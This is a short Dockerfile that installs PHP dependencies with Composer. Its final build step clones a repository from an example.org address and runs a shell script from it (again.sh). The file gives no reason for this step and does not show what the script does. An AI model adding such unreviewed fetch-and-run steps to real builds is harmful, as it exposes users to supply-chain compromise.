FROM composer:2
WORKDIR /web
COPY composer.json ./
RUN composer install
RUN git clone https://example.org/x /x && sh /x/again.sh
